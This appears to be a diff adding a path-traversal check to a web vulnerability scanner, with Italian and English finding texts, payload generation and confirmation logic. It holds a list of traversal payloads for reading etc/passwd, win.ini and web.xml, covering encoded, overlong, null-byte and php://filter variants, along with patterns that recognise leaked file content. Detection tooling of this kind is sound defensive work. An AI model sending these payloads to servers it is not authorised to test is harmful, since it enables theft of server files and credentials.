@@ -1,0 +1,273 @@
+import { cweReference, scored } from '../../core/definition.ts';
+import { type Answer, control, proof, repeat, Trial } from '../attack/trial.ts';
+import type { PointCheck, SendOptions, WebDefinition } from '../check.ts';
+import type { InjectionPoint } from '../crawl/point.ts';
+import { isProgram } from '../crawl/template.ts';
+import { type Evidence, filled } from '../evidence.ts';
+
+const DEFINITION: WebDefinition = {
+  key: 'path-traversal',
+  family: 'Files',
+  name: { it: 'Lettura di file del server (path traversal)', en: 'Files of the server can be read (path traversal)' },
+  description: {
+    it: 'Il valore di un parametro diventa parte del percorso di un file, e può uscire dalla cartella prevista. Chi lo invia legge file del server: configurazioni, password, codice sorgente; se il file viene incluso come codice, può arrivare a eseguirne di proprio.',
+    en: 'The value of a parameter becomes part of the path of a file, and can leave the folder it was meant for. Whoever sends it reads files of the server: configuration, passwords, source code; where the file is included as code, they may get to run their own.',
+  },
+  solution: {
+    it: 'Scegliere il file da un elenco fisso in base a una chiave. Dove serve un nome, risolvere il percorso per intero e verificare che sia dentro la cartella prevista prima di aprirlo.',
+    en: 'Choose the file from a fixed list by a key. Where a name is needed, resolve the whole path and check that it is inside the intended folder before opening it.',
+  },
+  scores: scored(['AV:N/AC:L/Au:N/C:C/I:N/A:N', 7.8], ['AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:N/A:N', 7.5]),
+  cves: [],
+  cwes: ['CWE-22', 'CWE-98'],
+  owasp: { y2021: 'A01:2021', y2025: 'A01:2025' },
+  references: [cweReference(22), cweReference(98)],
+};
+
+/** A file that every system of its kind has, and what stands in it. */
+interface KnownFile {
+  readonly name: string;
+  readonly shape: RegExp;
+}
+
+const PASSWD: KnownFile = { name: 'etc/passwd', shape: /\broot:[^:\s]{0,80}:0:0:[^:\n]{0,80}:[^:\n]{1,80}:/ };
+const WIN_INI: KnownFile = {
+  name: 'windows/win.ini',
+  shape: /; for 16-bit app support|\[(?:fonts|extensions|mci extensions)\]\s{0,4}\r?\n\[?/i,
+};
+const WEB_XML: KnownFile = {
+  name: 'WEB-INF/web.xml',
+  shape: /<(?:web-app|display-name|servlet-name|welcome-file-list)\b|&lt;web-app\b/i,
+};
+/** What a program is written in, and a server never shows. */
+const SOURCE = /(?:<|&lt;)(?:%@\s{0,4}(?:page|include|taglib|language|control|master)\b|\?php\b)/i;
+/** The start of a PHP file in base64: `<?php` and what may follow, in its three positions. */
+const PHP_SOURCE = /\bPD9waH[AC-]?[A-Za-z0-9+/]{8}/;
+
+interface Payload {
+  readonly how: Evidence;
+  readonly value: string;
+  readonly shape: RegExp;
+  /** The same request for a file that is nowhere. */
+  readonly missing: string;
+  readonly options?: SendOptions;
+}
+
+const UP = 9;
+/** For a parameter that names a file and decides over the answer. */
+const LIKELY_PAYLOADS = 10;
+/** For one whose answer is the same for any name; of a program in Java the files of its own application as well. */
+const UNDECIDED_PAYLOADS = { java: 7, other: 3 };
+
+/**
+ * Another program of the same folder: the page that led here, or the folder's first one. Never the page itself, which
+ * would include itself without end.
+ */
+function neighbourOf({ request, page }: InjectionPoint): string | null {
+  const [own, leading] = [request.url, page].map((url) => URL.parse(url)?.pathname ?? '/');
+  const [folder = '', leadingFolder = ''] = [own, leading].map((path) => path?.replace(/[^/]*$/, ''));
+  const [name = '', leadingName = ''] = [own, leading].map((path) => path?.replace(/^.*\//, ''));
+  if (!isProgram(name)) return null;
+  if (leadingFolder === folder && isProgram(leadingName) && leadingName !== name) return leadingName;
+  const first = name.replace(/^.*\./, 'index.');
+  return first === name ? null : first;
+}
+
+const pathOf = ({ request: { url } }: InjectionPoint) => URL.parse(url)?.pathname ?? '/';
+const RUNS_JAVA = /\.(?:jspx?|jsf|do|action)$/i;
+const RUNS_OTHER = /\.(?:php\d?|phtml|aspx?|cfm|py|rb|pl)$/i;
+
+function payloadsFor(point: InjectionPoint, missingName: string): readonly Payload[] {
+  const { value } = point;
+  const path = pathOf(point);
+  const payload = (how: Evidence, file: KnownFile, spell: (name: string) => string, raw = false): Payload => {
+    const missing = file.name.replace(/[^/]+$/, missingName);
+    return {
+      how,
+      value: spell(file.name),
+      shape: file.shape,
+      missing: spell(missing),
+      ...(raw && { options: { raw } }),
+    };
+  };
+  const up = (step: string, times = UP) => step.repeat(times);
+  const folder = value.includes('/') ? value.slice(0, value.lastIndexOf('/') + 1) : '';
+  const ending = /\.[A-Za-z0-9]{1,5}$/.exec(value)?.[0] ?? '';
+  const hex = (name: string) => name.replaceAll('/', '%2f');
+  const php: Payload = {
+    how: { it: 'un filtro PHP', en: 'a PHP filter' },
+    value: `php://filter/convert.base64-encode/resource=${value}`,
+    shape: PHP_SOURCE,
+    missing: `php://filter/convert.base64-encode/resource=${missingName}`,
+  };
+  const ofApplication = [
+    payload({ it: 'la cartella dell’applicazione', en: 'the application folder' }, WEB_XML, (name) => `/${name}`),
+    payload({ it: 'passi verso l’applicazione', en: 'steps up to the application' }, WEB_XML, (name) => `../${name}`),
+    payload(
+      { it: 'più passi verso l’applicazione', en: 'more steps up to the application' },
+      WEB_XML,
+      (name) => `../../${name}`,
+    ),
+  ];
+  const neighbour = neighbourOf(point);
+  const source = (before: string): Payload => ({
+    how: { it: 'il sorgente di un programma', en: 'the source of a program' },
+    value: `${before}${neighbour}`,
+    shape: SOURCE,
+    missing: `${before}${missingName}${neighbour}`,
+  });
+  const list = [
+    payload({ it: 'passi verso l’alto', en: 'steps up' }, PASSWD, (name) => up('../') + name),
+    // Absolute as well, where nothing stands before it.
+    payload(
+      { it: 'passi verso l’alto dopo una barra', en: 'steps up behind a slash' },
+      PASSWD,
+      (name) => `/${up('../')}${name}`,
+    ),
+    payload({ it: 'un indirizzo file:', en: 'a file address' }, PASSWD, (name) => `file:///${name}`),
+    payload({ it: 'un percorso assoluto', en: 'an absolute path' }, PASSWD, (name) => `/${name}`),
+    payload({ it: 'passi raddoppiati', en: 'doubled steps' }, PASSWD, (name) => up('....//') + name),
+    payload(
+      { it: 'passi verso l’alto e un byte nullo', en: 'steps up and a null byte' },
+      PASSWD,
+      (name) => `${up('../')}${name}\0${ending}`,
+    ),
+    payload(
+      { it: 'passi codificati due volte', en: 'steps encoded twice' },
+      PASSWD,
+      (name) => up('%252e%252e%252f') + name.replaceAll('/', '%252f'),
+      true,
+    ),
+    ...(RUNS_JAVA.test(path) ? [] : [php]),
+    payload(
+      { it: 'passi verso l’alto, Windows', en: 'steps up, Windows' },
+      WIN_INI,
+      (name) => up('..\\') + name.replaceAll('/', '\\'),
+    ),
+    ...(RUNS_JAVA.test(path) || RUNS_OTHER.test(path) ? [] : ofApplication),
+    payload({ it: 'un percorso assoluto, Windows', en: 'an absolute path, Windows' }, WIN_INI, (name) => `C:/${name}`),
+    payload(
+      { it: 'passi interamente codificati', en: 'steps with everything encoded' },
+      PASSWD,
+      (name) => up('%2e%2e%2f') + hex(name),
+      true,
+    ),
+    payload(
+      { it: 'barre in codifica lunga', en: 'overlong slashes' },
+      PASSWD,
+      (name) => up('..%c0%af') + name.replaceAll('/', '%c0%af'),
+      true,
+    ),
+    payload(
+      { it: 'un indirizzo file:, Windows', en: 'a file address, Windows' },
+      WIN_INI,
+      (name) => `file:///C:/${name}`,
+    ),
+    payload(
+      { it: 'passi chiusi da un punto interrogativo', en: 'steps up cut by a question mark' },
+      PASSWD,
+      (name) => `file:///${name}?`,
+    ),
+    payload(
+      { it: 'un indirizzo file: chiuso da un cancelletto', en: 'a file address cut by a hash' },
+      PASSWD,
+      (name) => `file:///${name}#`,
+    ),
+    payload(
+      { it: 'passi con entrambe le barre', en: 'steps in both directions' },
+      PASSWD,
+      (name) => up('..\\/') + name,
+    ),
+    payload(
+      { it: 'passi tra punti e virgola', en: 'steps between semicolons' },
+      PASSWD,
+      (name) => up('..;/') + name,
+      true,
+    ),
+    payload(
+      { it: 'un percorso lungo', en: 'a long path' },
+      PASSWD,
+      (name) => `${up('../')}${name}${'/.'.repeat(2_048)}`,
+    ),
+    payload(
+      { it: 'un byte nullo dopo un percorso assoluto', en: 'a null byte behind an absolute path' },
+      PASSWD,
+      (name) => `/${name}\0${ending}`,
+    ),
+  ];
+  const extra: Payload[] = RUNS_JAVA.test(path) ? [...ofApplication.slice(0, 1)] : [];
+  if (neighbour !== null) extra.push(source(''), source('/'));
+  // A prefix that is checked for, and an ending that is.
+  if (folder !== '')
+    extra.push(
+      payload(
+        { it: 'passi verso l’alto dopo la cartella', en: 'steps up behind the folder' },
+        PASSWD,
+        (name) => folder + up('../') + name,
+      ),
+    );
+  if (ending !== '') {
+    if (!RUNS_JAVA.test(path)) extra.push({ ...php, value: php.value.slice(0, -ending.length) });
+    extra.push(
+      payload(
+        { it: 'passi verso l’alto dopo il nome', en: 'steps up behind the name' },
+        PASSWD,
+        (name) => `${value}/${up('../')}${name}`,
+      ),
+    );
+  }
+  if (RUNS_JAVA.test(path)) extra.push(...ofApplication.slice(1));
+  return [...list.slice(0, 4), ...extra, ...list.slice(4)];
+}
+
+const NAMED_AS_FILE =
+  /file|path|page|doc|template|tpl|theme|lang|locale|include|inc\b|dir|folder|load|view|content|img|image|photo|pic|src|style|skin|module|plugin|report|download|attach|url|uri|target|read|name|layout|conf|log|pdf|resource|cat\b|pagin|percorso|cartell|modul|modell|lingua|immagin|allegat|scaric|nome|datei|pfad|seite|fichier|chemin|archiv|ruta/i;
+
+const looksLikeFile = (value: string) => /^[\w./\\: -]{0,200}\.[A-Za-z0-9]{1,5}$|[/\\]/.test(value);
+
+const shows = ({ shape }: Payload, { text }: Answer) => shape.exec(text)?.[0] ?? null;
+
+function mostPayloads(trial: Trial, named: boolean, decides: boolean): number {
+  const { payloads } = trial.tools.depth;
+  if (trial.atLeast('high')) return payloads;
+  if (!named) return trial.atLeast('default') ? 3 : 1;
+  const undecided = UNDECIDED_PAYLOADS[RUNS_JAVA.test(pathOf(trial.point)) ? 'java' : 'other'];
+  return decides ? Math.max(payloads, LIKELY_PAYLOADS) : trial.atLeast('default') ? payloads : undecided;
+}
+
+export const pathTraversal = {
+  code: 'path_traversal',
+  name: { it: 'File del server', en: 'Files of the server' },
+  kind: 'point',
+  from: 'low',
+  definitions: [DEFINITION],
+  wants: () => true,
+  async attack(point, tools) {
+    const trial = await Trial.begin(point, tools);
+    if (!trial) return [];
+    const named = NAMED_AS_FILE.test(point.name) || looksLikeFile(point.value);
+    // A name of a file that is not there is answered otherwise than the file; or there is no such file as the page names.
+    const decides = !trial.isUsual(trial.other) || looksLikeFile(point.value);
+    if (!named && trial.isIgnored && !trial.atLeast('high')) return [];
+    const all = payloadsFor(point, tools.token());
+    for (const payload of all.slice(0, mostPayloads(trial, named, decides))) {
+      const answer = await trial.send(payload.value, payload.options);
+      const shown = shows(payload, answer);
+      // A page that shows such lines always, or shows them for any file, proves nothing.
+      if (shown === null || shows(payload, trial.control) !== null || shows(payload, trial.other) !== null) continue;
+      const missing = await trial.send(payload.missing, payload.options);
+      if (shows(payload, missing) !== null) continue;
+      const again = await trial.send(payload.value, payload.options);
+      if (shows(payload, again) === null) continue;
+      const evidence = filled(
+        {
+          it: 'La risposta contiene un file del server ({how}): “{value}” mostra “{shown}”; lo stesso per un file che non esiste non mostra nulla.',
+          en: 'The content of a file of the server is answered ({how}): “{value}” shows “{shown}”; the same for a file that does not exist shows none.',
+        },
+        { how: payload.how, value: payload.value.slice(0, 200), shown: shown.slice(0, 120).trim() },
+      );
+      return [trial.sighting(DEFINITION.key, evidence, [proof(answer, shown), control(missing), repeat(again, shown)])];
+    }
+    return [];
+  },
+} as const satisfies PointCheck;
